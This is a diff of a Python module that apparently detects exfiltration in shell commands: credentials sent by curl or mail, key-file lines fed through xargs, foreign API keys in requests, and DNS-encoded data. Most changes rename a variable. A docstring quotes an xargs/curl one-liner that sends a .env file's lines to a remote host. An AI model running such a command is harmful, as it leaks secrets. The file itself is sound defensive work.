@@ -21,21 +21,25 @@ _ENCODERS = program_catalogue.programs("encoder")
 
 
 def exfiltrations(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
-    sends = [effect for effect in found if effect.kind in _SENDS and "local" not in effect.flags and effect.run is not None]
+    sends = [
+        effect for effect in found if effect.kind in _SENDS and "local" not in effect.flags and effect.program is not None
+    ]
     sends = sends[:MAX_PARTNERS]
     redirected = [
-        run for run in reading.runs if any(r.kind != "read" and r.target.startswith(SOCKET) for r in run.redirects)
+        program
+        for program in reading.runs
+        if any(r.kind != "read" and r.target.startswith(SOCKET) for r in program.redirects)
     ]
-    handed = any(effect.run is not None and line_wrapper(effect.run) for effect in found if effect.kind in _ASKS)
+    handed = any(effect.program is not None and line_wrapper(effect.program) for effect in found if effect.kind in _ASKS)
     if not sends and not redirected and not handed:
         return
     yield from _sent_credentials(sends, reading, found, where)
     yield from _exfiltrated_by_xargs(reading, found, where)
-    for run in redirected[:MAX_PARTNERS]:
-        if "credentials" in _input_flags(run, reading, where) or any(
-            e.run is run and e.place == "credentials" for e in found
+    for program in redirected[:MAX_PARTNERS]:
+        if "credentials" in _input_flags(program, reading, where) or any(
+            e.program is program and e.place == "credentials" for e in found
         ):
-            yield Effect("exfiltrate", run.redirects[-1].target, "remote", frozenset(), run)
+            yield Effect("exfiltrate", program.redirects[-1].target, "remote", frozenset(), program)
 
 
 _ASKS = _SENDS | {"fetch", "connect"}
@@ -45,13 +49,13 @@ def _exfiltrated_by_xargs(reading: Reading, found: tuple[Effect, ...], where: Wh
     """`xargs -I{} curl "https://host/{}" < .env`: each line of a key file becomes an address or a word."""
     asking = [effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags]
     for effect in asking[:MAX_PARTNERS]:
-        run = effect.run
-        hander = line_wrapper(run) if run is not None else ""
-        if run is None or not hander or not any(UNKNOWN in word for word in run.argv):
+        program = effect.program
+        hander = line_wrapper(program) if program is not None else ""
+        if program is None or not hander or not any(UNKNOWN in word for word in program.argv):
             continue
         wrappers = (each for each in reading.runs if each.name == hander)
         if any(_is_fed_credentials(wrapper, reading, where) for wrapper in wrappers):
-            yield Effect("exfiltrate", effect.target.replace(UNKNOWN, "?"), "remote", frozenset(), run)
+            yield Effect("exfiltrate", effect.target.replace(UNKNOWN, "?"), "remote", frozenset(), program)
 
 
 def _is_fed_credentials(wrapper: ProgramRun, reading: Reading, where: Where) -> bool:
@@ -67,42 +71,42 @@ def _sent_credentials(sends: list[Effect], reading: Reading, found: tuple[Effect
     """Once for each target, and last what goes by mail."""
     targets: set[str] = set()
     for send in sends:
-        if send.run is None or send.target in targets or "mail" in send.flags:
+        if send.program is None or send.target in targets or "mail" in send.flags:
             continue
-        flags = _exfiltration_flags(send, send.run, reading, found, where)
+        flags = _exfiltration_flags(send, send.program, reading, found, where)
         if flags is not None:
             targets.add(send.target)
-            yield Effect("exfiltrate", send.target, "remote", flags, send.run)
+            yield Effect("exfiltrate", send.target, "remote", flags, send.program)
     for send in sends:
-        if send.run is not None and "mail" in send.flags and "credentials" in send.flags:
-            yield Effect("exfiltrate", send.target, "remote", frozenset({"mail"}), send.run)
+        if send.program is not None and "mail" in send.flags and "credentials" in send.flags:
+            yield Effect("exfiltrate", send.target, "remote", frozenset({"mail"}), send.program)
 
 
-def _reaches(taker: ProgramRun, run: ProgramRun, reading: Reading) -> bool:
+def _reaches(taker: ProgramRun, program: ProgramRun, reading: Reading) -> bool:
     """Whether what one program reads gets to the other: through a pipe, a substitution or a file."""
-    same = taker.piped and (taker.pipeline == run.pipeline or bool(run.given and "$()" in taker.via))
-    return same or _through_file(taker, run, reading)
+    same = taker.piped and (taker.pipeline == program.pipeline or bool(program.given and "$()" in taker.via))
+    return same or _through_file(taker, program, reading)
 
 
 def _exfiltration_flags(
-    send: Effect, run: ProgramRun, reading: Reading, found: tuple[Effect, ...], where: Where
+    send: Effect, program: ProgramRun, reading: Reading, found: tuple[Effect, ...], where: Where
 ) -> frozenset[str] | None:
     """The flags of the `exfiltrate` effect that this sending amounts to, or None."""
-    flags = send.flags | _input_flags(run, reading, where)
-    if "credentials" in flags or (run.given and _given_secret(run, reading)):
+    flags = send.flags | _input_flags(program, reading, where)
+    if "credentials" in flags or (program.given and _given_secret(program, reading)):
         return frozenset()
-    for taken in _secrets_before(run, reading, found):
-        if taken.run is not None and _reaches(taken.run, run, reading):
+    for taken in _secrets_before(program, reading, found):
+        if taken.program is not None and _reaches(taken.program, program, reading):
             return frozenset() if taken.place == "credentials" else frozenset({"bulk"})
-    if "secret" in flags and _is_for_host(_variables(run), _host(send.target)) and not _goes_elsewhere(run):
+    if "secret" in flags and _is_for_host(_variables(program), _host(send.target)) and not _goes_elsewhere(program):
         flags -= {"secret"}
     return frozenset({"bulk", "secret"} & flags) or None
 
 
-def _given_secret(run: ProgramRun, reading: Reading) -> bool:
+def _given_secret(program: ProgramRun, reading: Reading) -> bool:
     """Whether what it sends contains the output of a program that shows kept secrets; logging in with that is ordinary."""
     sources = {
-        name for at, feed in run.given if not _LOGS_IN.match(run.argv[at]) for name in feed.programs
+        name for at, feed in program.given if not _LOGS_IN.match(program.argv[at]) for name in feed.programs
     }  # fmt: skip
     return bool(sources) and any(
         other.name in sources and environment_dumps.shows_secret(other) for other in reading.runs[:MAX_PARTNERS]
@@ -114,9 +118,9 @@ _LOGS_IN = lazy_re.compile(
 )
 
 
-def _variables(run: ProgramRun) -> list[str]:
+def _variables(program: ProgramRun) -> list[str]:
     """The variables that hold secrets among what a program is given."""
-    feeds = [feed for _, feed in run.given] + ([run.stdin] if run.stdin is not None else [])
+    feeds = [feed for _, feed in program.given] + ([program.stdin] if program.stdin is not None else [])
     found = [name[1:] for feed in feeds for name in feed.programs if name[:1] == "$" and name not in ("$secret", "$()")]
     return found[:MAX_PARTNERS]
 
@@ -125,11 +129,11 @@ def _is_for_host(variables: list[str], host: str) -> bool:
     return bool(variables) and all(key_owners.belongs(name, host) for name in variables)
 
 
-def _goes_elsewhere(run: ProgramRun) -> bool:
+def _goes_elsewhere(program: ProgramRun) -> bool:
     """Whether a request may reach another machine than the one it names: through a proxy, or by an address of its own."""
-    if any(name.lower().endswith("_proxy") for name, _ in run.assigns):
+    if any(name.lower().endswith("_proxy") for name, _ in program.assigns):
         return True
-    return any(_ROUTES.match(word) for word in run.argv[1:])
+    return any(_ROUTES.match(word) for word in program.argv[1:])
 
 
 _ROUTES = lazy_re.compile(
@@ -147,47 +151,47 @@ def _host(address: str) -> str:
 _ADDRESS = lazy_re.compile(r"[a-z][a-z0-9+.-]{1,20}://[^\s\"'<>]{1,500}", re.IGNORECASE)
 
 
-def _hosts_of(run: ProgramRun, request: Effect | None) -> set[str]:
+def _hosts_of(program: ProgramRun, request: Effect | None) -> set[str]:
     """The host that a program asks, or those of the addresses among its words."""
     if request is None:
-        return {target(match[0]).host for word in run.argv[1:MAX_SHOWN] for match in _ADDRESS.finditer(word)}
+        return {target(match[0]).host for word in program.argv[1:MAX_SHOWN] for match in _ADDRESS.finditer(word)}
     return {_host(request.target)} if not {"private", "-"} & request.flags else set()
 
 
 def foreign_keys(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
     """A key of a known service in a request to another host, also in its headers, and in an address that is kept."""
-    asked = {id(effect.run): effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags}
-    for run in reading.runs:
-        if not run.given or not (variables := _variables(run)):
+    asked = {id(effect.program): effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags}
+    for program in reading.runs:
+        if not program.given or not (variables := _variables(program)):
             continue
-        for host in sorted(_hosts_of(run, asked.get(id(run))) - {""}):
+        for host in sorted(_hosts_of(program, asked.get(id(program))) - {""}):
             if UNKNOWN not in host and any(key_owners.is_foreign(name, host) for name in variables):
-                yield Effect("exfiltrate", host, "remote", frozenset({"secret"}), run)
+                yield Effect("exfiltrate", host, "remote", frozenset({"secret"}), program)
 
 
-def _secrets_before(run: ProgramRun, reading: Reading, found: tuple[Effect, ...]) -> list[Effect]:
+def _secrets_before(program: ProgramRun, reading: Reading, found: tuple[Effect, ...]) -> list[Effect]:
     """Credentials read and whole folders packed before this program runs; credentials first."""
     earlier: set[int] = set()
     for other in reading.runs:
-        if other is run:
+        if other is program:
             break
         earlier.add(id(other))
-    taken = [effect for effect in found if effect.kind in _TAKES and id(effect.run) in earlier]
+    taken = [effect for effect in found if effect.kind in _TAKES and id(effect.program) in earlier]
     secret = [effect for effect in taken if effect.place == "credentials"]
     whole = [effect for effect in taken if effect.place in ("root", "home", "system") and effect.kind == "pack"]
     return secret[:MAX_PARTNERS] + whole[:MAX_PARTNERS]
 
 
-def _input_flags(run: ProgramRun, reading: Reading, where: Where) -> frozenset[str]:
+def _input_flags(program: ProgramRun, reading: Reading, where: Where) -> frozenset[str]:
     """Flags of the data that arrives through the pipe: from the source itself and from the programs before it."""
-    flags = data_flags(run.stdin, where, run.cwd)
-    if run.stdin is None:
+    flags = data_flags(program.stdin, where, program.cwd)
+    if program.stdin is None:
         return flags
     for other in reading.runs:
-        if other is run:
+        if other is program:
             break
         if (
-            other.pipeline == run.pipeline
+            other.pipeline == program.pipeline
             and other.piped
             and (
                 environment_dumps.shows(other)
@@ -228,12 +232,18 @@ def exfiltrated_by_dns(reading: Reading, found: tuple[Effect, ...]) -> Iterator[
     """DNS names assembled from pieces, beside a program that makes such pieces out of a file."""
     secret = any(effect.place == "credentials" for effect in found)
     if not secret and not any(
-        run.name in _ENCODERS or any(w.startswith("/etc/") for w in run.argv[1:]) for run in reading.runs
+        program.name in _ENCODERS or any(w.startswith("/etc/") for w in program.argv[1:]) for program in reading.runs
     ):
         return
-    for run in reading.runs:
-        if run.name in RESOLVERS and any(UNKNOWN in word and "." in word.rpartition(UNKNOWN)[2] for word in run.argv[1:]):
+    for program in reading.runs:
+        if program.name in RESOLVERS and any(
+            UNKNOWN in word and "." in word.rpartition(UNKNOWN)[2] for word in program.argv[1:]
+        ):
             yield Effect(
-                "exfiltrate", " ".join(run.argv[1:4]).replace(UNKNOWN, "?"), "remote", frozenset({"bulk", "dns"}), run
+                "exfiltrate",
+                " ".join(program.argv[1:4]).replace(UNKNOWN, "?"),
+                "remote",
+                frozenset({"bulk", "dns"}),
+                program,
             )
             return
